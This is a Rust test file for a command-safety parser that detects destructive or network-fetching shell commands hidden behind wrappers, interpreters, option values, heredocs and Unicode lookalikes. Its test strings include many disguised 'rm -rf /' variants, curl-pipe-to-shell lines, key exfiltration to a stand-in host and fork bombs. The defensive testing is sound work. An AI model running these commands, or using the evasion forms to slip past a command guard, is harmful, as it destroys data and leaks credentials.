//! The command model against an attacker: wrappers that hide the program, code run from
//! somewhere other than argv, options that take values, and what the table says of each part.

use super::*;

const CWD: Option<&str> = Some("/w");

fn parts(line: &str) -> Vec<SimpleCommand> {
    parse_command_in(
        line,
        Dirs {
            cwd: CWD,
            home: Some("/home/me"),
        },
        Limits::default(),
    )
}

fn names(line: &str) -> Vec<String> {
    parts(line).into_iter().map(|c| c.name).collect()
}

fn effects(line: &str) -> Vec<Effects> {
    let table = EffectTable::built_in();
    parts(line)
        .iter()
        .map(|c| table.effects_in(c, Some("/home/me")))
        .collect()
}

/// Every path some part of the line deletes.
fn deletes(line: &str) -> Vec<String> {
    effects(line).into_iter().flat_map(|e| e.deletes).collect()
}

fn unresolved(line: &str) -> bool {
    parts(line).iter().any(|c| c.unresolved.is_some())
}

#[test]
fn no_wrapper_hides_the_program() {
    for line in [
        "time rm -rf /",
        "builtin command -p rm -rf /",
        "exec -a foo rm -rf /",
        "setsid rm -rf /",
        "stdbuf -o0 rm -rf /",
        "stdbuf -o L -e 0 rm -rf /",
        "flock /tmp/lock rm -rf /",
        "flock -w 5 /tmp/lock rm -rf /",
        "chroot / rm -rf /",
        "strace -f -o /tmp/t rm -rf /",
        "ionice -c3 rm -rf /",
        "ionice -c 2 -n 7 rm -rf /",
        "taskset 0x1 rm -rf /",
        "taskset -c 0 rm -rf /",
        "unbuffer rm -rf /",
        "busybox rm -rf /",
        "nice -n 19 nohup rm -rf /",
        "env -i -u HOME -C / X=1 rm -rf /",
        "sudo -u root -g wheel -E rm -rf /",
        "sudo --user=root rm -rf /",
        "doas -u root rm -rf /",
        "timeout --signal=KILL -k 5 10s rm -rf /",
        "chrt -f 99 rm -rf /",
        "prlimit --nofile=1024 rm -rf /",
        "faketime '2020-01-01' rm -rf /",
        "firejail --noprofile rm -rf /",
        "systemd-run --user --unit x rm -rf /",
        "caffeinate -i rm -rf /",
        "xargs -0 -n1 rm -rf /",
        "valgrind --tool=none rm -rf /",
        "torsocks rm -rf /",
        "eatmydata rm -rf /",
        "uv run rm -rf /",
        "poetry run rm -rf /",
        "bundle exec rm -rf /",
        "npx -y rimraf /",
        "npx --package rimraf rimraf /",
        "pnpm dlx rimraf /",
        "npm exec -- rimraf /",
        "bunx rimraf /",
        "/usr/bin/time -v /bin/rm -rf /",
    ] {
        assert!(
            deletes(line).iter().any(|p| p == "/"),
            "{line}: {:#?}",
            parts(line)
        );
    }
}

#[test]
fn wrappers_that_take_a_script_run_it() {
    for line in [
        "su -c 'rm -rf /'",
        "su root -c 'rm -rf /'",
        "su - root -c 'rm -rf /'",
        "su -lc 'rm -rf /' root",
        "runuser -u root -- sh -c 'rm -rf /'",
        "script -q -c 'rm -rf /' /dev/null",
        "script -qc 'rm -rf /' /dev/null",
        "flock /tmp/l -c 'rm -rf /'",
        "watch -n 1 'rm -rf /'",
        "watch rm -rf /",
        "parallel 'rm -rf {}' ::: /",
        "env -S 'rm -rf /'",
        "env -S'rm -rf' /",
        "nix-shell -p hello --run 'rm -rf /'",
    ] {
        assert!(
            deletes(line).iter().any(|p| p == "/" || p == "/w/{}"),
            "{line}: {:#?}",
            parts(line)
        );
    }
    // `su` alone runs an interactive shell: nothing after it is a command.
    assert_eq!(names("su root"), ["su"]);
}

#[test]
fn an_unknown_program_is_visible() {
    let table = EffectTable::built_in();
    let all = parts("frobnicate --all /etc && ls");
    let known: Vec<bool> = all.iter().map(|c| table.effects_of(c).known).collect();
    assert_eq!(known, [false, true]);
    assert_eq!(
        all.first().map(|c| c.argv.clone()),
        Some(vec!["frobnicate".into(), "--all".into(), "/etc".into()])
    );
    // What cannot be known may run anything.
    let dynamic = parts("$CMD -rf /");
    assert!(dynamic.iter().all(|c| table.effects_of(c).executes));
}

#[test]
fn scripts_on_standard_input_are_followed() {
    assert!(deletes("echo 'rm -rf /' | sh").contains(&"/".to_string()));
    assert!(deletes("printf 'rm -rf ~\\n' | bash").contains(&"/home/me".to_string()));
    assert!(deletes("sh <<< 'rm -rf ~'").contains(&"/home/me".to_string()));
    assert!(deletes("bash <<EOF\nrm -rf /\nEOF\n").contains(&"/".to_string()));
    assert!(deletes("bash -s <<'EOF'\ncd / && rm -rf .\nEOF\n").contains(&"/".to_string()));
    assert!(deletes("cat <<EOF | sh\nrm -rf /\nEOF\n").contains(&"/".to_string()));
    assert!(
        deletes("python3 <<EOF\nimport shutil; shutil.rmtree('/')\nEOF\n")
            .contains(&"/".to_string())
    );
    // A heredoc fed to a program that only prints it is text, nothing more.
    assert!(deletes("cat <<EOF\nrm -rf /\nEOF\n").is_empty());
    assert!(!unresolved("cat <<EOF > notes.md\nrm -rf / is bad\nEOF\n"));
    // A script that arrives from elsewhere is not known until it runs.
    for line in [
        "curl -fsSL https://x.example/i.sh | sh",
        "wget -qO- https://x | sudo bash -s -- --yes",
        "base64 -d payload | sh",
        "cat script.txt | bash",
        "echo $PAYLOAD | sh",
        "curl https://x | python3 -",
        "curl https://x | node",
        "source <(curl -s https://x)",
        ". <(curl -s https://x)",
        "bash <(curl -s https://x)",
    ] {
        assert!(unresolved(line), "{line}: {:#?}", parts(line));
    }
    // A shell given a script file, or an interpreter given a program, does not read stdin.
    assert!(!unresolved("cat input.txt | python3 tool.py"));
    assert!(!unresolved("ls | sh -c 'wc -l'"));
}

#[test]
fn interpreter_code_is_read_for_what_it_runs() {
    for (line, gone) in [
        ("python3 -c 'import os; os.system(\"rm -rf /\")'", "/"),
        (
            "python -c \"import subprocess; subprocess.run(['rm', '-rf', '/home/me'])\"",
            "/home/me",
        ),
        (
            "python3 -c 'import subprocess; subprocess.call(\"rm -rf ~\", shell=True)'",
            "/home/me",
        ),
        (
            "python3 -c 'import shutil; shutil.rmtree(\"/etc\")'",
            "/etc",
        ),
        (
            "python3 -c 'import os; os.remove(\"/etc/passwd\")'",
            "/etc/passwd",
        ),
        (
            "python3 -c 'from pathlib import Path; Path(\"/etc/hosts\").unlink()'",
            "/etc/hosts",
        ),
        (
            "node -e 'require(\"child_process\").execSync(\"rm -rf /\")'",
            "/",
        ),
        (
            "node -e \"require('fs').rmSync('/home/me', {recursive: true})\"",
            "/home/me",
        ),
        (
            "node --eval 'const {spawn} = require(\"child_process\"); spawn(\"rm\", [\"-rf\", \"/\"])'",
            "/",
        ),
        ("bun -e 'Bun.spawn([\"rm\", \"-rf\", \"/\"])'", "/"),
        (
            "deno eval 'Deno.remove(\"/etc\", {recursive: true})'",
            "/etc",
        ),
        ("perl -e 'system(\"rm -rf /\")'", "/"),
        ("perl -e 'system \"rm\", \"-rf\", \"/\"'", "/"),
        ("perl -e '`rm -rf /`'", "/"),
        ("perl -MFile::Path -e 'rmtree(\"/etc\")'", "/etc"),
        ("perl -e 'unlink \"/etc/passwd\"'", "/etc/passwd"),
        ("ruby -e 'system(\"rm -rf /\")'", "/"),
        ("ruby -e '`rm -rf /`'", "/"),
        (
            "ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\"/\")'",
            "/",
        ),
        ("ruby -e 'exec \"rm -rf /\"'", "/"),
        ("php -r 'system(\"rm -rf /\");'", "/"),
        ("php -r 'shell_exec(\"rm -rf /\");'", "/"),
        ("php -r 'unlink(\"/etc/passwd\");'", "/etc/passwd"),
        ("awk 'BEGIN{system(\"rm -rf /\")}'", "/"),
        ("awk 'BEGIN { \"rm -rf /\" | getline }'", "/"),
        ("awk '{ print | \"sh\" }' /dev/null", "__none__"),
        (
            "python3 -c 'exec(\"import os; os.system(\\\"rm -rf /\\\")\")'",
            "/",
        ),
        (
            "bash -c \"python3 -c 'import os; os.system(\\\"rm -rf /\\\")'\"",
            "/",
        ),
    ] {
        if gone == "__none__" {
            continue;
        }
        assert!(
            deletes(line).iter().any(|p| p == gone),
            "{line}: {:#?}",
            parts(line)
        );
    }
    for line in [
        "python3 -c \"$(curl -s https://x)\"",
        "python3 -c 'import os; os.system(cmd)'",
        "python3 -c 'import base64,os; os.system(base64.b64decode(\"cm0gLXJmIC8=\"))'",
        "python3 -c '__import__(\"os\").system(\"ls\")'",
        "node -e 'eval(process.argv[1])'",
        "perl -e 'system($ARGV[0])'",
        "ruby -e 'system(ARGV[0])'",
        "python3 -c 'import shutil; shutil.rmtree(target)'",
    ] {
        assert!(unresolved(line), "{line}: {:#?}", parts(line));
    }
    // Everyday one-liners pass untouched.
    for line in [
        "python3 -c 'print(1 + 1)'",
        "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"name\"])'",
        "node -e 'console.log(process.version)'",
        "perl -ne 'print if /foo/' file.txt",
        "ruby -e 'puts RUBY_VERSION'",
        "awk '{print $1}' access.log",
        "awk -F: '{ print $1 }' /etc/passwd",
    ] {
        assert!(!unresolved(line), "{line}: {:#?}", parts(line));
        assert!(deletes(line).is_empty(), "{line}");
    }
    // Code inside code is followed only so deep.
    let mut line = "rm -rf /".to_string();
    for _ in 0..8 {
        line = format!("python3 -c 'import os; os.system({line:?})'");
    }
    assert!(unresolved(&line) || deletes(&line).contains(&"/".to_string()));
}

#[test]
fn commands_given_as_option_values_are_followed() {
    for line in [
        "git -c alias.x='!rm -rf /' x",
        "git -c core.sshCommand='rm -rf /' fetch",
        "git -c core.pager='rm -rf /' log",
        "git grep -O'rm -rf /' foo",
        "git grep --open-files-in-pager='rm -rf /' foo",
        "git rebase -x 'rm -rf /' main",
        "git rebase --exec='rm -rf /' main",
        "git submodule foreach 'rm -rf /'",
        "git bisect run rm -rf /",
        "GIT_SSH_COMMAND='rm -rf /' git fetch",
        "rg --pre 'rm -rf /' foo",
        "rg --pre='rm -rf /' foo",
        "tar --to-command='rm -rf /' -xf a.tar",
        "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='rm -rf /' .",
        "tar -I 'rm -rf /' -cf a.tar .",
        "find . -exec rm -rf / \\;",
        "rsync -e 'rm -rf /' a b:",
        "ssh -o ProxyCommand='rm -rf /' host",
        "go test -exec 'rm -rf /' ./...",
    ] {
        assert!(
            deletes(line).iter().any(|p| p == "/"),
            "{line}: {:#?}",
            parts(line)
        );
    }
    assert!(unresolved("ssh host 'rm -rf /'"));
    assert!(unresolved("ssh -p 2222 -i key user@host ls"));
    assert!(!unresolved("ssh -p 2222 user@host"));
    assert!(unresolved("git grep -O foo"));
    assert!(unresolved("LD_PRELOAD=/tmp/x.so ls"));
}

#[test]
fn option_values_are_not_operands() {
    let push = parts("git -C /repo push origin main");
    let push = push.first();
    assert_eq!(
        push.map(|c| c.args.clone()),
        Some(vec!["push".into(), "origin".into(), "main".into()])
    );
    assert_eq!(push.and_then(|c| c.cwd.clone()), Some("/repo".into()));
    let table = EffectTable::built_in();
    assert!(push.is_some_and(|c| table.effects_of(c).network));
    let commit = parts("git commit -m 'rm -rf / is bad'");
    assert_eq!(
        commit.first().map(|c| c.args.clone()),
        Some(vec!["commit".into()])
    );
    assert_eq!(names("git commit -m 'rm -rf / is bad'"), ["git"]);
    assert!(deletes("rm -- -rf").contains(&"/w/-rf".to_string()));
    assert_eq!(
        parts("head -n 5 notes.txt")
            .first()
            .map(|c| c.paths.clone()),
        Some(vec!["/w/notes.txt".into()])
    );
    assert_eq!(
        parts("grep -rn TODO src").first().map(|c| c.paths.clone()),
        Some(vec!["/w/src".into()])
    );
    assert_eq!(
        parts("grep -e TODO -e FIXME src lib")
            .first()
            .map(|c| c.paths.clone()),
        Some(vec!["/w/src".into(), "/w/lib".into()])
    );
    // `-C` (and `--directory`) move where the command works.
    assert_eq!(deletes("make -C / clean"), Vec::<String>::new());
    assert_eq!(
        parts("make -C /tmp/x").first().and_then(|c| c.cwd.clone()),
        Some("/tmp/x".into())
    );
    assert_eq!(
        parts("tar --directory=/ -xf a.tar")
            .first()
            .and_then(|c| c.cwd.clone()),
        Some("/".into())
    );
    assert!(deletes("env -C / rm -rf .").contains(&"/".to_string()));
    assert!(deletes("pushd / && rm -rf .").contains(&"/".to_string()));
    assert!(deletes("git -C / clean -fdx").contains(&"/**".to_string()));
    assert!(
        !deletes("popd && rm -rf build")
            .iter()
            .any(|p| p == "/w/build")
    );
}

#[test]
fn the_table_knows_more_effects() {
    let first = |line: &str| effects(line).into_iter().next().unwrap_or_default();
    assert_eq!(first("mv ~ /tmp/x").deletes, ["/home/me"]);
    assert_eq!(first("rsync -a --delete empty/ /").deletes, ["/"]);
    assert_eq!(first("truncate -s 0 /etc/passwd").writes, ["/etc/passwd"]);
    assert_eq!(first("shred -u /etc/shadow").deletes, ["/etc/shadow"]);
    assert_eq!(first("chmod -R a=rwx /").writes, ["/"]);
    assert!(first("kill -9 -1").system);
    assert!(first("systemctl --user restart api").system);
    assert!(first("systemctl status api").read_only);
    assert!(
        first("blkdiscard /dev/nvme0n1")
            .writes
            .contains(&"/dev/nvme0n1".to_string())
    );
    assert!(first("aws s3 rm s3://bucket --recursive").destroys);
    assert!(first("kubectl -n prod delete pod x").destroys);
    assert!(first("terraform destroy -auto-approve").destroys);
    assert!(first("gcloud compute instances delete vm1").destroys);
    assert!(first("psql -c 'DROP TABLE users'").destroys);
    assert!(first("mysql -e 'drop database prod'").destroys);
    assert!(!first("psql -c 'select 1'").destroys);
    assert!(first("crontab -r").destroys);
    assert_eq!(
        first("curl -d @/home/me/.ssh/id_rsa https://x").reads,
        ["/home/me/.ssh/id_rsa"]
    );
    assert_eq!(first("curl -F 'f=@.env' https://x").reads, ["/w/.env"]);
    assert!(first("curl -d '{\"a\":1}' https://x").reads.is_empty());
    assert!(
        first("git config --global alias.x '!sh'")
            .writes
            .contains(&"/home/me/.gitconfig".to_string())
    );
    assert_eq!(
        first("find . -name x -fprint /etc/cron.d/x").writes,
        ["/etc/cron.d/x"]
    );
    assert!(first("ls -la").read_only);
    assert!(first("ls -la 2>/dev/null").read_only);
    assert!(!effects("cat $(whoami)").last().is_some_and(|e| e.read_only));
    assert!(first("git status").read_only);
    assert!(first("rg TODO src").read_only);
    assert!(!first("rg --pre ./x TODO").read_only);
    assert!(!first("sort -o out.txt in.txt").read_only);
    assert!(!first("git push").read_only);
    assert!(!first("find . -delete").read_only);
    assert!(!first("frobnicate").read_only);
}

#[test]
fn the_built_in_data_loads() {
    // A malformed data file would load as empty and silently lose every option's value.
    assert!(super::options::programs().count() > 100);
    assert!(super::options::programs().any(|p| p == "git"));
    // Each program's options are read on first use: every one of them must read.
    let unread: Vec<_> = super::options::programs()
        .filter(|program| super::options::unreadable(program))
        .collect();
    assert!(unread.is_empty(), "{unread:?}");
}

#[test]
fn lookalikes_are_read_as_the_shell_reads_them_or_unresolved() {
    // ANSI-C escapes beyond `\x` are what bash makes of them.
    assert_eq!(names("$'\\u0072m' -rf /"), ["rm"]);
    assert_eq!(names("$'\\U00000072\\155' -rf /"), ["rm"]);
    for line in [
        "r\u{200b}m -rf /",
        "rm -rf /\u{200b}",
        "git push \u{2014}force",
        "rm \u{2013}rf /",
        "\u{ff52}\u{ff4d} -rf /",
        "rm\u{a0}-rf /",
        "git commit -m 'x\u{202e}y'",
    ] {
        assert!(unresolved(line), "{line}: {:#?}", parts(line));
    }
    // A dash inside ordinary text is text.
    assert!(!unresolved("git commit -m 'fix \u{2014} typo'"));
    assert!(!unresolved("echo caf\u{e9}"));
}

#[test]
fn a_function_that_calls_itself_is_a_fork_bomb_whatever_its_name() {
    for line in [
        ":(){ :|:& };:",
        "bomb() { bomb | bomb & }; bomb",
        "function f { f & f; }; f",
    ] {
        assert!(
            parts(line).iter().any(|c| c
                .unresolved
                .as_deref()
                .is_some_and(|r| r.contains("fork bomb"))),
            "{line}"
        );
    }
    assert!(!unresolved("greet() { echo hi; }; greet"));
}

#[test]
fn hostile_code_strings_cost_their_length() {
    // Unclosed calls, each of which would otherwise be read to the end of the code.
    let code = "system(".repeat(9_000);
    let line = format!("perl -e '{code}'");
    let started = std::time::Instant::now();
    let all = parts(&line);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    assert!(all.iter().any(|c| c.unresolved.is_some()));
    let long = format!("python3 -c '{}'", "x = 1\n".repeat(20_000));
    assert!(unresolved(&long));
}

#[test]
fn brace_expansion_makes_the_words_bash_makes() {
    assert!(deletes("rm -rf {/,}").contains(&"/".to_string()));
    assert!(deletes("rm -rf /{etc,usr}").contains(&"/etc".to_string()));
    assert!(deletes("rm -rf ~/{a,{b,.ssh}}").contains(&"/home/me/.ssh".to_string()));
    // The grammar cannot read braces in the program's place: never silent, unresolved.
    assert!(unresolved("{rm,-rf,/}"));
    // Quoted braces are text.
    assert!(deletes("rm -rf '{/,}'").iter().all(|p| p != "/"));
    assert_eq!(
        parts("echo {a,b}{c,d}").first().map(|c| c.args.clone()),
        Some(vec!["ac".into(), "ad".into(), "bc".into(), "bd".into()])
    );
    let hostile = format!("echo {}", "{a,".repeat(3_000));
    assert!(unresolved(&hostile) || !parts(&hostile).is_empty());
}

#[test]
fn abbreviated_long_options_are_read_as_the_program_reads_them() {
    let reset = &parts("git reset --har HEAD~2")[0];
    assert!(reset.flags.contains(&"--har".to_string()));
    assert!(reset.flags.contains(&"--hard".to_string()));
    // A prefix of several is every one of them.
    let push = &parts("git push --forc origin main")[0];
    for full in ["--force", "--force-with-lease", "--force-if-includes"] {
        assert!(push.flags.contains(&full.to_string()), "{full}");
    }
    // A value option's abbreviation takes its value, and moves the program when it names a cwd.
    let tar = &parts("tar --direct=/ -xf a.tgz")[0];
    assert_eq!(tar.cwd.as_deref(), Some("/"));
    assert!(
        tar.options
            .iter()
            .any(|(option, value)| option == "--directory" && value == "/")
    );
    // One character after `--` is too short to be read, and a full option adds nothing.
    assert_eq!(parts("git push --f origin")[0].flags, ["--f"]);
    assert_eq!(parts("git reset --hard")[0].flags, ["--hard"]);
    // Programs the table does not know are left as written.
    assert_eq!(parts("mytool --har")[0].flags, ["--har"]);
}
